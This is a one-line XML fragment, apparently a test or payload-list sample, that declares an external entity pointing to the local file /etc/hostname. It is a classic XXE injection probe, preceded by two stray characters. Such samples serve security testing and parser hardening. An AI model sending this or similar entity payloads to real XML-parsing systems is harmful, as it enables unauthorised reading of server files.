2i<!DOCTYPE catalog [<!ENTITY x SYSTEM "file:///etc/hostname">]>
